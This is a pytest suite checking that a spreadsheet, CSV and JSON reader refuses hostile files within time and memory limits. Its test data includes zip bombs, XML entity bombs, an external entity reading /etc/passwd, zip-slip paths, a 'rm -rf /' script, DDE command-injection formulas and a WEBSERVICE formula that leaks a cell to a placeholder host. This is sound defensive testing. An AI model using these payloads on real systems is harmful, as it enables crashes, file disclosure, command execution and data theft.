"""Files made to do harm are refused with a sentence, in under two seconds and 300 MB, and nobody else notices."""

from __future__ import annotations

import contextlib
import io
import resource
import threading
import time
import zipfile
from collections.abc import Callable, Iterable, Iterator
from datetime import date
from pathlib import Path
from typing import Final

import pytest

from chengxin.foundation.collection.readers import Chunk, Limits, read
from chengxin.kernel.refused import Refused
from chengxin.policy.policy_set import PolicySet
from tests.harness import spreadsheets as made

MEGABYTE: Final = 1 << 20
HEADER: Final = "名称,代码,日期\n".encode()


@pytest.fixture(scope="module")
def limits(shipped_policy: PolicySet) -> Limits:
    return Limits.of(shipped_policy, date(2026, 11, 20))


def first(_rows: object) -> int:
    return 0


def chunks(content: bytes | Iterable[bytes], name: str, limits: Limits) -> list[Chunk]:
    pieces = [content] if isinstance(content, bytes) else content
    return list(read(pieces, file_name=name, limits=limits, find_header=first))


class PeakOfChildren(threading.Thread):
    """Watches how much memory the readers take: their own high-water mark, which begins at exec."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.done = threading.Event()
        self.bytes = 0

    def run(self) -> None:
        while not self.done.wait(0.004):
            for task in Path("/proc/self/task").iterdir():
                with contextlib.suppress(OSError):
                    for child in (task / "children").read_text().split():
                        self.look(Path("/proc", child))

    def look(self, process: Path) -> None:
        with contextlib.suppress(OSError):
            if b"readers.child" in (process / "cmdline").read_bytes():
                marks = [line for line in (process / "status").read_text().splitlines() if line.startswith("VmHWM")]
                self.bytes = max([self.bytes, *(int(mark.split()[1]) * 1024 for mark in marks)])


@contextlib.contextmanager
def in_time(seconds: float) -> Iterator[None]:
    """The reader's own time, which a busy machine does not lengthen; and no hanging."""
    before, started = resource.getrusage(resource.RUSAGE_CHILDREN), time.monotonic()
    try:
        yield
    finally:
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        assert after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime < seconds, "too slow"
        assert time.monotonic() - started < 10 * seconds, "hanging"


def refused(content: bytes | Iterable[bytes], name: str, limits: Limits) -> Refused:
    peak = PeakOfChildren()
    peak.start()
    with pytest.raises(Refused) as caught, in_time(2):
        chunks(content, name, limits)
    peak.done.set()
    peak.join()
    assert 0 < peak.bytes < 300 * MEGABYTE, "refused, but the reader took too much memory"
    said = caught.value
    assert any("\u4e00" <= char <= "\u9fff" for char in said.sentence)
    assert said.sentence.endswith("。")
    assert said.what_to_do
    return said


def repeated(piece: bytes, times: int, *, before: bytes = b"") -> Iterator[bytes]:
    yield before
    for _ in range(times):
        yield piece


def zip_bomb() -> bytes:
    return made.package(made.sheet_xml(repeated(b"<row>" + b" " * (MEGABYTE - 11) + b"</row>", 300)))


def shared_text_bomb() -> bytes:
    return made.package(b"<worksheet/>", shared=b"<sst><si><t>" + b"A" * (60 * MEGABYTE) + b"</t></si></sst>")


def one_cell_bomb(characters: int) -> bytes:
    # Random-looking text, so that the ratio of the package gives nothing away.
    text = "".join(chr(0x4E00 + (n * 7919 + n // 13) % 20_000) for n in range(characters))
    return made.package(b"".join(made.sheet_xml([b'<row r="1">', made.inline("A1", text), b"</row>"])))


def wide_row_bomb() -> bytes:
    cells = (f"<c><v>{n * 7919 % 100_003}</v></c>".encode() for n in range(2_000_000))
    return made.package(made.sheet_xml([b"<row>", b"".join(cells), b"</row>"]))


def million_blank_rows() -> bytes:
    header = b'<row r="1">' + made.inline("A1", "名称") + b"</row>"
    rows = b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (n, n) for n in range(2, 1_000_000))
    return made.package(made.sheet_xml([header, rows]))


def entity_workbook() -> bytes:
    entities = "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for name, before in zip("bcdefghij", "abcdefghi", strict=True))
    doctype = f'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">{entities}]>'
    return made.package(
        f'<?xml version="1.0"?>{doctype}<worksheet><sheetData><row><c><v>&j;</v></c></row></sheetData></worksheet>'.encode()
    )


def late_doctype() -> bytes:
    """The declaration behind a long comment, where a glance at the beginning does not see it."""
    comment = f"<!--{'x' * 300_000}-->"
    body = "<worksheet><sheetData><row><c><v>&a;</v></c></row></sheetData></worksheet>"
    xml = f'<?xml version="1.0"?>{comment}<!DOCTYPE x [<!ENTITY a "b">]>{body}'
    return made.package(xml.encode())


def external_entity() -> bytes:
    return made.spreadsheet_2003([["甲"]], before='<!DOCTYPE Workbook [<!ENTITY file SYSTEM "file:///etc/passwd">]>')


def with_part(name: str, data: bytes = b"x") -> Callable[[], bytes]:
    return lambda: made.package(b"".join(made.sheet_xml([])), others=[(name, data)])


def locked_workbook() -> bytes:
    return made.compound_file("EncryptionInfo", "EncryptedPackage")


def encrypted_entry() -> bytes:
    body = bytearray(made.workbook(("一", [["名称"]])))
    position = 0
    while (position := body.find(b"PK\x01\x02", position)) >= 0:
        body[position + 8] |= 1
        position += 4
    return bytes(body)


def lying_size() -> bytes:
    """The directory says the sheet unpacks to a few bytes."""
    body = bytearray(made.package(made.sheet_xml(repeated(b"<row/>", 500_000))))
    at = body.find(b"PK\x01\x02")
    while b"sheet1.xml" not in body[at : at + 80]:
        at = body.find(b"PK\x01\x02", at + 4)
    body[at + 24 : at + 28] = (100).to_bytes(4, "little")
    return bytes(body)


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("账目.txt", "甲")
    return out.getvalue()


HOSTILE: Final[dict[str, tuple[Callable[[], bytes | Iterable[bytes]], str, str]]] = {
    "zip bomb": (zip_bomb, "a.xlsx", "file-unpacks-too-large"),
    "shared text bomb": (shared_text_bomb, "a.xlsx", "file-unpacks-too-large"),
    "overlapping parts": (made.overlapping_package, "a.xlsx", "file-unpacks-too-large"),
    "one-cell bomb": (lambda: one_cell_bomb(500_000), "a.xlsx", "file-cell-too-long"),
    "larger one-cell bomb": (lambda: one_cell_bomb(5_000_000), "a.xlsx", "file-element-too-large"),
    "wide row": (wide_row_bomb, "a.xlsx", "file-element-too-large"),
    "a million blank rows": (million_blank_rows, "a.xlsx", "file-blank-rows"),
    "entity bomb": (entity_workbook, "a.xlsx", "file-xml-entities"),
    "late doctype": (late_doctype, "a.xlsx", "file-xml-entities"),
    "external entity": (external_entity, "a.xml", "file-xml-entities"),
    "zip slip": (with_part("../../etc/cron.d/x"), "a.xlsx", "file-package-path"),
    "absolute path": (with_part("/etc/passwd"), "a.xlsx", "file-package-path"),
    "macros": (with_part("xl/vbaProject.bin"), "a.xlsx", "file-macros"),
    "program inside": (with_part("xl/embeddings/a.exe", b"MZ"), "a.xlsx", "file-macros"),
    "program behind": (lambda: made.workbook(("一", [["名称"], ["甲"]])) + b"MZ" * 100, "a.xlsx", "file-two-formats"),
    "picture before": (lambda: b"GIF89a" + made.workbook(("一", [["名称"]])), "a.xlsx", "file-kind-unknown"),
    "text before": (lambda: b"name\n" + made.workbook(("一", [["名称"]])), "a.csv", "file-two-formats"),
    "truncated": (lambda: made.workbook(("一", [["名称"]] * 500))[:-400], "a.xlsx", "file-package-broken"),
    "lying size": (lying_size, "a.xlsx", "file-package-broken"),
    "locked": (locked_workbook, "a.xlsx", "file-locked"),
    "encrypted entry": (encrypted_entry, "a.xlsx", "file-locked"),
    "legacy macros": (lambda: made.compound_file("Workbook", "_VBA_PROJECT_CUR"), "a.xls", "file-macros"),
    "document": (lambda: made.compound_file("WordDocument"), "a.xls", "file-kind-unknown"),
    "broken legacy": (lambda: made.compound_file("Workbook"), "a.xls", "file-package-broken"),
    "legacy continent": (lambda: made.legacy_workbook([["乙"]], at=(65_535, 255)), "a.xls", "file-no-rows"),
    "plain zip": (plain_zip, "a.xlsx", "file-not-workbook"),
    "program": (lambda: b"MZ\x90\0" + bytes(1000), "a.csv", "file-executable"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "a.csv", "file-executable"),
    "picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), "a.xlsx", "file-kind-unknown"),
    "web page": (lambda: b"<html><table><tr><td>1</td></tr></table></html>", "a.xls", "file-kind-unknown"),
    "workbook named csv": (lambda: made.workbook(("一", [["名称"]])), "a.csv", "file-name-contradicts"),
    "text named xlsx": (lambda: HEADER + "甲,1,2\n".encode(), "a.xlsx", "file-name-contradicts"),
    "empty": (lambda: b"", "a.csv", "file-empty"),
    "only blank lines": (lambda: b"\n\n\n", "a.csv", "file-no-rows"),
    "header only": (lambda: HEADER, "a.csv", "file-no-rows"),
    "header only workbook": (lambda: made.workbook(("一", [["名称", "代码"]])), "a.xlsx", "file-no-rows"),
    "blank lines": (lambda: HEADER + b",,\n" * 1_000_000 + "甲,1,2\n".encode(), "a.csv", "file-blank-rows"),
    "NUL bytes": (lambda: HEADER + "甲,1\0,2\n".encode(), "a.csv", "file-nul"),
    "UTF-16": (lambda: "名称\t代码\n甲\t1\n".encode("utf-16"), "a.csv", "file-utf16"),
    "broken encoding": (lambda: HEADER + b"\xff\xfe\x81\x20,1,2\n", "a.csv", "file-encoding"),
    "endless quote": (lambda: repeated(b"x" * MEGABYTE + b"\n", 40, before=HEADER + b'"'), "a.csv", "file-quotes"),
    "endless line": (lambda: repeated(b"x" * MEGABYTE, 40, before=HEADER), "a.csv", "file-row-too-large"),
    "one-cell text": (lambda: HEADER + b"x" * 40_000 + b",1,2\n", "a.csv", "file-cell-too-long"),
    "too many columns": (lambda: b",".join(b"c%d" % n for n in range(1_001)) + b"\n" + b"1," * 1_000 + b"1\n", "a.csv", "file-columns"),
    "too many columns in a workbook": (lambda: made.workbook(("一", [["c"] * 1_001, ["v"] * 1_001])), "a.xlsx", "file-columns"),
    "DDE": (lambda: HEADER + b"=cmd|' /C calc'!A0,1,2\n", "a.csv", "file-dangerous-formula"),
    "DDE behind a sign": (lambda: HEADER + b"+cmd|' /C calc'!A0,1,2\n", "a.csv", "file-dangerous-formula"),
    "fetching formula": (lambda: HEADER + b'"=WEBSERVICE(""http://example.invalid/""&A1)",1,2\n', "a.csv", "file-dangerous-formula"),
    "fetching formula in a workbook": (
        lambda: made.package(
            b"".join(made.sheet_xml([b'<row r="1">', made.inline("A1", '@HYPERLINK("http://example.invalid/")'), b"</row>"]))
        ),
        "a.xlsx",
        "file-dangerous-formula",
    ),
    "deep JSON": (lambda: b'[{"a":' + b"[" * 200_000, "a.json", "file-json"),
    "endless JSON text": (lambda: repeated(b"x" * MEGABYTE, 40, before=b'[{"a":"'), "a.json", "file-json"),
    "JSON with NUL": (lambda: b'[{"a":"\\u0000"}]', "a.json", "file-json"),
    "same key twice": (lambda: b'[{"a":"1","a":"2"}]', "a.json", "file-json"),
    "JSON that stops": (lambda: b'[{"a":"1"}', "a.json", "file-json"),
    "deep XML": (lambda: made.package(b"<a>" * 5_000), "a.xlsx", "file-element-too-large"),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_is_refused_with_a_sentence_in_time(kind: str, limits: Limits) -> None:
    make, name, slug = HOSTILE[kind]
    assert refused(make(), name, limits).slug == slug


def test_encoding_that_changes_midway_names_the_row(limits: Limits) -> None:
    good = HEADER + "甲,1,2\n".encode() * 600_000
    said = refused(good + "乙公司,1,2\n".encode("gb18030"), "a.csv", limits)
    assert said.slug == "file-encoding-mixed"
    assert "600002" in said.sentence


def test_too_large_is_refused_while_it_comes_in(limits: Limits) -> None:
    small = Limits(**{**vars(limits), "size_csv": MEGABYTE})
    said = refused(repeated("甲,1,2\n".encode() * 10_000, 100_000, before=HEADER), "a.csv", small)
    assert said.slug == "file-too-large"
    assert "1 MB" in said.sentence


def test_reader_that_dies_is_a_refusal_and_the_next_file_is_read(limits: Limits) -> None:
    starved = Limits(**{**vars(limits), "reading_memory": 1 << 16})
    assert refused(made.legacy_workbook([["名称"]] * 100), "a.xls", starved).slug in {"file-reading-memory", "file-reading-failed"}
    assert chunks(HEADER + "甲,1,2\n".encode(), "a.csv", limits)[0].frame.height == 1


def test_reader_without_processor_time_is_stopped(limits: Limits) -> None:
    hurried = Limits(**{**vars(limits), "reading_cpu_seconds": 1})
    endless = repeated(b'{"a":"1","b":"2","c":"3"}\n' * 40_000, 400)
    with pytest.raises(Refused) as caught:
        chunks(endless, "a.ndjson", hurried)
    assert caught.value.slug == "file-reading-time"


def test_reader_that_keeps_silent_is_stopped(limits: Limits) -> None:
    def stuck() -> Iterator[bytes]:
        yield HEADER
        time.sleep(1.5)

    impatient = Limits(**{**vars(limits), "reading_seconds": 1})
    assert refused(stuck(), "a.csv", impatient).slug == "file-reading-time"


def test_failure_of_the_source_is_not_taken_for_the_file_s(limits: Limits) -> None:
    def failing() -> Iterator[bytes]:
        yield HEADER
        raise OSError("disk")

    with pytest.raises(OSError, match="disk"):
        chunks(failing(), "a.csv", limits)


def test_small_file_is_read_quickly(limits: Limits) -> None:
    for _ in range(3):
        with in_time(1.0):
            chunks(HEADER + "甲,1,2\n".encode(), "a.csv", limits)
